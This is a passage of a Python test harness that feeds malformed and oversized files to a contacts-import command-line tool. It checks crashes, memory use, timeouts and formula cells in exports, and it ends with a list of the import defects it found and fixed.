            for task in os.listdir(f"/proc/{current}/task"):
                children = Path(f"/proc/{current}/task/{task}/children").read_text().split()
                stack.extend(int(c) for c in children)
        except (OSError, ValueError):
            continue
    return total


def _wait(pid: int, limit: float, started: float) -> tuple[int, float, bool]:
    """Wait for ``pid`` (SIGKILL past ``limit`` s): exit code, peak RSS in MB, timed out."""
    timed_out = False
    while True:
        done, status, usage = os.wait4(pid, os.WNOHANG)
        if done:
            return os.waitstatus_to_exitcode(status), usage.ru_maxrss / 1024, timed_out
        if not timed_out and time.monotonic() - started > limit:
            timed_out = True
            try:
                os.killpg(pid, signal.SIGKILL)
            except OSError:
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.02)


class _Forker:
    """The pre-warmed process that forks each import: one JSON request and answer a line."""

    def __init__(self) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-c", "from faults.hostile_files import _serve_forks; _serve_forks()"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            cwd=Path(__file__).resolve().parents[1],
            text=True,
            encoding="utf-8",
        )

    def run(self, argv: list[str], out: Path, err: Path, limit: float) -> Outcome:
        assert self.process.stdin is not None and self.process.stdout is not None
        request = {"argv": argv, "out": str(out), "err": str(err), "limit": limit}
        self.process.stdin.write(json.dumps(request) + "\n")
        self.process.stdin.flush()
        answer = self.process.stdout.readline()
        if not answer:
            raise RuntimeError("the pre-warmed import process ended")
        return Outcome(**json.loads(answer))

    def close(self) -> None:
        if self.process.stdin is not None:
            self.process.stdin.close()
        try:
            self.process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.process.kill()


_FORKER: _Forker | None = None


def _serve_forks() -> None:
    """The pre-warmed process: import the CLI once, then fork one import per request."""
    _preload()
    for line in sys.stdin:
        request = json.loads(line)
        outcome = run_import(
            request["argv"],
            Path(request["out"]),
            Path(request["err"]),
            request["limit"],
            exec_it=False,
        )
        sys.stdout.write(json.dumps(dataclasses.asdict(outcome)) + "\n")
        sys.stdout.flush()


def run_import(argv: list[str], out: Path, err: Path, limit: float, *, exec_it: bool) -> Outcome:
    """``localpro <argv>`` in a child process: forked (CLI already imported) or exec'ed."""
    if not exec_it and _FORKER is not None:
        return _FORKER.run(argv, out, err, limit)
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
    env.pop("LOCALPRO_HOME", None)
    started = time.monotonic()
    with out.open("wb") as stdout, err.open("wb") as stderr:
        if exec_it:
            process = subprocess.Popen(
                [sys.executable, "-m", "localpro_desktop.cli.main", *argv],
                stdout=stdout,
                stderr=stderr,
                stdin=subprocess.DEVNULL,
                env=env,
                start_new_session=True,
            )
            pid = process.pid
        else:
            sys.stdout.flush()
            sys.stderr.flush()
            pid = os.fork()
            if pid == 0:  # the child: become the command, never return
                code = 3
                try:
                    os.setsid()
                    # As ``python -m localpro_desktop.cli.main``: the importer's spawned
                    # worker processes re-import __main__, which must be the command.
                    import localpro_desktop.cli.main as command

                    sys.modules["__main__"] = command
                    os.dup2(stdout.fileno(), 1)
                    os.dup2(stderr.fileno(), 2)
                    # A test runner's capture objects stand in for sys.stdout: write to
                    # the files, as an exec'ed command would.
                    sys.stdout = open(1, "w", encoding="utf-8", closefd=False)  # noqa: SIM115
                    sys.stderr = open(2, "w", encoding="utf-8", closefd=False)  # noqa: SIM115
                    from localpro_desktop.cli.main import main

                    code = main(argv)
                    sys.stdout.flush()
                    sys.stderr.flush()
                finally:
                    os._exit(code)
        code, rss, timed_out = _wait(pid, limit, started)
        if exec_it:
            process.returncode = code
    seconds = time.monotonic() - started
    return Outcome(
        code,
        seconds,
        rss,
        out.read_text("utf-8", "replace"),
        err.read_text("utf-8", "replace"),
        timed_out,
    )


def _preload() -> None:
    """Import what a forked child would otherwise import itself (once, here)."""
    import openpyxl  # noqa: F401

    import localpro_desktop.cli.main
    import localpro_desktop.services.importing.importer  # noqa: F401


def check_case(
    case: Case,
    number: int,
    seed: int,
    workspace: Path,
    folder: Path,
    exec_it: bool,
    result: CampaignResult,
    stats: dict[str, object],
) -> None:
    where = f"seed {seed} case {number} ({case.kind}{', ' + case.note if case.note else ''})"
    before_counts, before_sum = snapshot(workspace)
    crash_log = workspace / "logs" / "crash.log"
    crash_before = crash_log.stat().st_size if crash_log.exists() else 0
    argv = ["--json", "--data-dir", str(workspace), "import", case.record, str(case.path)]
    outcome = run_import(
        argv,
        folder / f"c{number:04d}.out",
        folder / f"c{number:04d}.err",
        case.seconds,
        exec_it=exec_it,
    )
    peaks = stats.setdefault("peak_rss", {})
    assert isinstance(peaks, dict)
    peaks[case.kind] = max(peaks.get(case.kind, 0.0), outcome.rss_mb)
    slowest = stats.setdefault("slowest", {})
    assert isinstance(slowest, dict)
    slowest[case.kind] = max(slowest.get(case.kind, 0.0), outcome.seconds)
    outcomes = stats.setdefault("outcomes", {})
    assert isinstance(outcomes, dict)
    outcomes[f"{case.kind}:{outcome.code}"] = outcomes.get(f"{case.kind}:{outcome.code}", 0) + 1

    message = _message(outcome.stderr)
    if outcome.timed_out:
        result.fail(f"{where}: still running after {case.seconds:.0f} s, killed")
        return
    if outcome.rss_mb > MAX_RSS_MB:
        result.fail(f"{where}: peak RSS {outcome.rss_mb:.0f} MB > {MAX_RSS_MB:.0f} MB")
    if outcome.code not in (0, 1):
        result.fail(f"{where}: exit {outcome.code}: {message[:200]}")
    if "Traceback" in outcome.stderr or "Traceback" in outcome.stdout:
        result.fail(f"{where}: a traceback was printed")
    if len(message) > MAX_MESSAGE_CHARS + 20:
        result.fail(f"{where}: a {len(message)}-character message")
    if (crash_log.stat().st_size if crash_log.exists() else 0) != crash_before:
        result.fail(f"{where}: logs/crash.log was written")
    check = integrity(workspace)
    if check != "ok":
        result.fail(f"{where}: integrity_check says {check[:100]}")
    after_counts, after_sum = snapshot(workspace)
    unchanged = (after_counts, after_sum) == (before_counts, before_sum)

    if outcome.code == 1 or case.expect == "refuse":
        if case.expect == "accept":
            result.fail(f"{where}: refused a file that must import: {message[:200]}")
            return
        if outcome.code != 1:
            result.fail(f"{where}: exit {outcome.code}, expected a refusal")
        if not unchanged:
            result.fail(f"{where}: refused but the workspace changed: {after_counts}")
        if case.words and not any(w.lower() in message.lower() for w in case.words):
            result.fail(f"{where}: message names none of {case.words}: {message[:200]}")
        if not message.strip():
            result.fail(f"{where}: refused without a message")
        return
    if outcome.code != 0:
        return
    try:
        report = json.loads(outcome.stdout)
    except ValueError:
        result.fail(f"{where}: the --json report is not JSON: {outcome.stdout[:120]!r}")
        return
    if case.expect == "accept" and case.count is not None:
        if report.get("created") != case.count:
            result.fail(f"{where}: {report.get('created')} created, {case.count} expected")
        return
    if case.expect == "accept":
        wanted = {r["first_name"]: r for r in case.rows}
        got = {r["first_name"]: r for r in contacts_named(workspace, set(wanted))}
        if report.get("created") != len(case.rows) or len(got) != len(wanted):
            result.fail(
                f"{where}: {report.get('created')} created, {len(got)} found, "
                f"{len(case.rows)} expected; rejected {report.get('rejected_rows', [])[:2]}"
            )
        for name, row in wanted.items():
            if name in got and got[name] != row:
                result.fail(f"{where}: stored {got[name]!r}, expected {row!r}")
                break
        if case.export:
            _check_export(case, number, seed, workspace, folder, exec_it, result, where)
        return
    # either: accepted, so every stored row must be a row of the file
    created = report.get("created", 0)
    if created > len(case.names):
        result.fail(f"{where}: {created} rows created from a file of {len(case.names)}")
    new_names = _new_first_names(workspace, before_counts, case.names)
    # A file cut in the middle of a row holds that row's beginning: like Excel, the import
    # takes it as it is (its name cut short). Anything else must be a row of the file.
    cut = [n for n in new_names - case.names if any(f.startswith(n) for f in case.names)]
    strangers = sorted(new_names - case.names - set(cut))
    if strangers or len(cut) > 1:
        result.fail(f"{where}: stored names not in the file: {(strangers + cut)[:3]}")


def _new_first_names(workspace: Path, before: dict[str, int], names: frozenset[str]) -> set[str]:
    connection = sqlite3.connect(f"file:{db_path(workspace)}?mode=ro", uri=True)
    try:
        rows = connection.execute(
            "SELECT first_name FROM contacts ORDER BY rowid LIMIT -1 OFFSET ?",
            (before["contacts"],),
        )
        return {r[0] for r in rows}
    finally:
        connection.close()


def _check_export(
    case: Case,
    number: int,
    seed: int,
    workspace: Path,
    folder: Path,
    exec_it: bool,
    result: CampaignResult,
    where: str,
) -> None:
    """Export the contacts (CSV and XLSX): no cell may start a formula."""
    from openpyxl import load_workbook

    wanted = {r["first_name"] for r in case.rows}
    for fmt in ("csv", "xlsx"):
        target = folder / f"c{number:04d}-export.{fmt}"
        argv = [
            "--data-dir",
            str(workspace),
            "export",
            "contacts",
            "--format",
            fmt,
            "--output",
            str(target),
        ]
        outcome = run_import(
            argv,
            folder / f"c{number:04d}-x.out",
            folder / f"c{number:04d}-x.err",
            CASE_SECONDS,
            exec_it=exec_it,
        )
        if outcome.code != 0:
            result.fail(f"{where}: export {fmt} failed: {_message(outcome.stderr)[:200]}")
            continue
        if fmt == "csv":
            text = target.read_text(encoding="utf-8-sig")
            cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        else:
            book = load_workbook(target, read_only=True)
            cells = []
            for row in book.worksheets[0].iter_rows(values_only=True):
                if any(isinstance(v, str) and v in wanted for v in row):
                    cells.extend(v for v in row if isinstance(v, str))
            book.close()
        live = [c for c in cells if c and c[0] in TRIGGERS]
        if live:
            result.fail(f"{where}: the {fmt} export holds live formulas: {live[:2]!r}")


def _message(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.startswith("error:") or "{" in line]
    if not lines:
        return stderr.strip()
    text = lines[-1]
    if text.startswith("{"):
        try:
            return str(json.loads(text).get("error", text))
        except ValueError:
            return text
    return text.removeprefix("error: ")


def run(cases: int, seed: int, workdir: Path) -> CampaignResult:
    result = CampaignResult("hostile_files", cases, seed)
    rng = random.Random(seed)
    full = cases >= 50
    started = time.monotonic()
    files = workdir / "files"
    files.mkdir(parents=True, exist_ok=True)
    workspaces = {"main": workdir / "ws-main", "capacity": workdir / "ws-capacity"}
    seed_workspace(workspaces["main"], random.Random(seed))
    global _FORKER
    _FORKER = _Forker()
    try:
        _run_cases(cases, seed, workdir, result, rng, full, files, workspaces, started)
    finally:
        _FORKER.close()
        _FORKER = None
    return result


def _run_cases(
    cases: int,
    seed: int,
    workdir: Path,
    result: CampaignResult,
    rng: random.Random,
    full: bool,
    files: Path,
    workspaces: dict[str, Path],
    started: float,
) -> None:
    cache: dict[str, Path] = {}
    stats: dict[str, object] = {}
    order = schedule(cases, rng, full)
    generators = {**GENERATORS, **FULL_ONLY}
    execed = 0
    for number, kind in enumerate(order):
        case_rng = random.Random(f"{seed}-{number}")
        case = generators[kind](Gen(case_rng, files, number + 1, full, cache))
        workspace = workspaces[case.workspace]
        if not workspace.exists():
            seed_workspace(workspace, random.Random(seed))
        # The largest file always runs exec'ed: its figure is the one a user's import has.
        exec_it = (full and number % EXEC_EVERY == 0) or case.workspace == "capacity"
        execed += exec_it
        try:
            check_case(case, number + 1, seed, workspace, files, exec_it, result, stats)
        except Exception as exc:  # a bug of the campaign itself: report it, go on
            result.fail(f"seed {seed} case {number + 1} ({kind}): campaign error {exc!r}")
        if case.path.exists() and case.path not in cache.values():
            case.path.unlink()
    peaks = stats.get("peak_rss", {})
    slowest = stats.get("slowest", {})
    outcomes = stats.get("outcomes", {})
    assert isinstance(peaks, dict) and isinstance(slowest, dict) and isinstance(outcomes, dict)
    result.figures = {
        "cases by kind": dict(sorted(_count(order).items())),
        "exec'ed as a real command": execed,
        "largest file": _largest(cache),
        "peak RSS MB by kind (max)": {k: round(v) for k, v in sorted(peaks.items())},
        "max peak RSS MB": round(max(peaks.values(), default=0.0)),
        "slowest s by kind": {k: round(v, 1) for k, v in sorted(slowest.items())},
        "exit codes (kind:code)": dict(sorted(outcomes.items())),
    }
    result.fixed = FIXED
    result.seconds = time.monotonic() - started


def _count(order: list[str]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for kind in order:
        counts[kind] = counts.get(kind, 0) + 1
    return counts


def _largest(cache: dict[str, Path]) -> str:
    sizes = [p.stat().st_size for p in cache.values() if p.exists()]
    return f"{max(sizes) / 1e6:.0f} MB on disk" if sizes else "-"


def iter_kinds() -> Iterator[str]:
    yield from GENERATORS


FIXED: list[str] = [
    "Any CSV was read whole however big (a 40 MB, 100,000-row file peaked at 541 MB, issue 14's "
    "50 MB line at 5.4 GB): files over 24 MB or 100,000 rows are refused at once, with a "
    "message to split them (test_hostile_readers: size, rows, cells bounds).",
    "A zip-bomb XLSX was inflated by openpyxl: each part's unpacked size is checked from the "
    "zip directory before opening (sheet 128 MB, shared strings 16 MB); a sheet claiming row "
    "99,999,999 took 121 s, now refused past Excel's last row or 10 M cells at once.",
    "Binary files named .csv (a picture, random bytes, an .xlsx renamed) were decoded as cp1252 "
    "and read as hundreds of garbage rows: now 'not a text file' / 'an Excel workbook with a "
    "CSV name'.",
    "A file mixing UTF-8 and cp1252 lines (or UTF-8 with stray bytes) was decoded whole as "
    "cp1252, every UTF-8 accent stored as mojibake ('FaÃ§on'): now the UTF-8 stays UTF-8 and "
    "only the other bytes are read as cp1252.",
    "An endless cell (a quote never closed) gave csv's 'field larger than field limit "
    "(131072)': now a message naming the row and the unclosed quote.",
]


if __name__ == "__main__":
    raise SystemExit(main_for(run, __doc__, DEFAULT_CASES))
